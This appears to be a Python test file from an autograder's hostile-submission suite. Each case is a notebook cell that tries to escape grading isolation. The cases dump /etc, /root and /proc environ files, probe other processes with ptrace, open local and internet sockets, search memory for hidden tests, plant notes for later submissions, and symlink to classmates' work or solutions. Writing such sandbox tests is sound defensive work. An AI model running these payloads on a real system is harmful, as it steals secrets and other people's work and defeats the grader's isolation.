"""Code that looks for what it must not see. It prints what it finds, so that a find would be in its feedback."""

from __future__ import annotations

import os
from pathlib import Path

from autograde.grading.states import State
from autograde.hostile.case import Case, Scene, cell
from autograde.sample_class.people import UNIT

#: Prints the content of every file it is given, as text and in base64.
_SHOW = """
import base64, glob, os
def show(*places):
    for place in places:
        for path in sorted(glob.glob(place, recursive=True))[:500]:
            try:
                with open(path, 'rb') as file: content = file.read(20_000)
            except OSError: continue
            print(path, content.decode(errors='replace'), base64.b64encode(content[:2000]))
"""


def _case(name: str, tries: str, code: str, before: str = "squeeze", **facts: object) -> Case:
    return Case(name, "reading", tries, cell(_SHOW + code, before), **facts)


def _link(to: str) -> object:
    def make(scene: Scene, folder: Path) -> None:
        for name, target in ((f"{UNIT}.ipynb", to), ("data.txt", "<host>/secret.txt"), ("all", "<course>")):
            os.symlink(scene.filled(target), folder / name)

    return make


def _links_only(name: str, tries: str, to: str) -> Case:
    return Case(name, "reading", tries, lambda scene: None, score=0, states=(State.MISSING,), beside=_link(to))


CASES = [
    _case(
        "files-of-the-class",
        "reads the gradebook, sources, states and other submissions by their paths",
        "show('<classroom>/*', '<classroom>/**/*.ipynb', '<classroom>/states/**', '<course>/**', '<course>/*/*/*')",
    ),
    _case(
        "files-of-the-machine",
        "reads homes, logs, keys and settings",
        "show('<host>/*', '/etc/*', '/root/.*', '/root/*', '/home/*/.*', '/var/log/*', '/run/**', '/tmp/**')\n"
        "show(os.path.expanduser('~/.*'), '/course/**/*.ipynb', '/course/autograde/*')",
    ),
    _case(
        "environment",
        "prints variables, its own and those of other processes",
        "import ctypes, subprocess\nprint(dict(os.environ))\n"
        "show('/proc/*/environ', '/proc/*/cmdline', '/proc/self/*')\n"
        "print(subprocess.run('env; ps auxe; set', shell=True, capture_output=True, text=True))\n"
        "block = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "for n in range(100):\n    if not block[n]: break\n    print(block[n])",
    ),
    _case(
        "other-processes",
        "looks into other processes through /proc and ptrace",
        """
import ctypes
show('/proc/[0-9]*/maps', '/proc/[0-9]*/root/**', '/proc/[0-9]*/fd/*', '/proc/*/mem', '/proc/kcore', '/dev/mem')
libc, held = ctypes.CDLL(None), ctypes.create_string_buffer(100)
print([libc.ptrace(16, pid, 0, 0) for pid in range(2, 40)])
""",
    ),
    _case(
        "network",
        "connects to this machine, to the internet, and to sockets of other kinds",
        """
import socket, urllib.request
for kind, address in ((2, ('127.0.0.1', <port>)), (10, ('::1', <port>, 0, 0)), (2, ('1.1.1.1', 443)), (1, '\\0<token>'),
                      (1, '<host>/socket'), (40, (2, <port>)), (16, (0, 0))):
    try:
        with socket.socket(kind) as way:
            way.settimeout(1)
            way.connect(address)
            way.sendall(b'<token>')
            print(way.recv(1000))
    except OSError: pass
try: print(urllib.request.urlopen('http://127.0.0.1:<port>/', timeout=1).read())
except OSError: pass
""",
    ),
    _case(
        "neighbours",
        "looks for submissions beside and above its own",
        "show('*', '../*', '../*/*', '<classroom>/submitted/*/*/*', '<classroom>/*/*', '/room/*')\n"
        "show(*(f'{root}/submitted/<victim>/*/*' for root in ('', '.', '..', '/work', '/srv', '<course>')))",
    ),
    _case(
        "hidden-tests",
        "searches memory, frames, sources and caches for hidden tests",
        """
import gc, inspect, linecache, sys
frame = sys._getframe()
while frame:
    print({name: repr(value)[:300] for name, value in frame.f_locals.items()}, frame.f_code.co_filename)
    frame = frame.f_back
word = 'HIDDEN' + ' TESTS'
print([text for text in gc.get_objects() if isinstance(text, list) and len(text) < 99 and word in str(text)][:3])
print({name for name in linecache.cache if 'test' in name}, get_ipython().history_manager.input_hist_raw)
show('<course>/solutions/**', '/course/**/*.md')
for name in ('autograde.grading.released', 'autograde.examiner.room', 'autograde.hostile', 'nbgrader.api'):
    try: print(inspect.getsource(__import__(name)), __import__(name).Gradebook('sqlite:///<classroom>/gradebook.db'))
    except Exception: pass
""",
        before="gate-predictions",
    ),
    _case(
        "descriptors",
        "reads from every descriptor, and asks the socket for more of them",
        """
import array, fcntl, socket
for number in range(3, 1024):
    try:
        os.set_blocking(number, False)
        print(number, os.read(number, 1000))
        way = socket.socket(fileno=os.dup(number))
        print(way.recvmsg(1000, 1000))
    except OSError: pass
    finally:
        try: os.set_blocking(number, True)
        except OSError: pass
""",
        states=(State.GRADED, State.DIED, State.NEEDS_REVIEW),
        less=True,
    ),
    _case(
        "left-behind",
        "leaves the secret of its author everywhere, for the next submission to find",
        """
import builtins, ctypes, sys, torch, visual_attention
note = '<left>'
for place in ('/tmp', '/dev/shm', '/room', '/course', '/var/tmp', '/run', '/proc'):
    try: open(f'{place}/note', 'w').write(note)
    except OSError: pass
for thing in (builtins, sys, torch, torch.nn.Linear, visual_attention, get_ipython()): thing.note = note
kept = ctypes.CDLL(None).shmget(4242, 4096, 0o1666)
torch.set_default_dtype(torch.float64), torch.manual_seed(4242)
""",
    ),
    _case(
        "left-behind-found",
        "looks for what the submission before it has left",
        """
import builtins, ctypes, sys, torch, visual_attention
show('/tmp/**', '/dev/shm/**', '/room/**', '/course/note', '/var/tmp/**', '/run/**')
for thing in (builtins, sys, torch, torch.nn.Linear, visual_attention, get_ipython()): print(getattr(thing, 'note', 0))
print(ctypes.CDLL(None).shmget(4242, 4096, 0o666), torch.get_default_dtype(), get_ipython().user_ns['In'])
""",
    ),
    _case(
        "shown-files",
        "shows files by magics, frames and pictures",
        """
from IPython.display import HTML, IFrame, Image, FileLink
get_ipython().run_line_magic('run', '<host>/secret.txt') if os.path.exists('<host>/secret.txt') else None
get_ipython().run_cell_magic('bash', '', 'cat <host>/* <classroom>/* /etc/passwd /root/.*')
get_ipython().run_line_magic('sx', 'cat <host>/secret.txt')
display(HTML('<iframe src="file://<host>/secret.txt">'), IFrame('file://<host>/secret.txt', 9, 9))
try: display(Image(filename='<host>/secret.txt'), FileLink('<host>/secret.txt'))
except Exception: pass
""",
    ),
    _links_only(
        "link-to-a-neighbour",
        "hands in a link to another's notebook",
        f"<classroom>/submitted/<victim>/{UNIT}/{UNIT}.ipynb",
    ),
    _links_only("link-to-the-solution", "hands in a link to the solution", f"<course>/solutions/{UNIT}/{UNIT}.ipynb"),
]
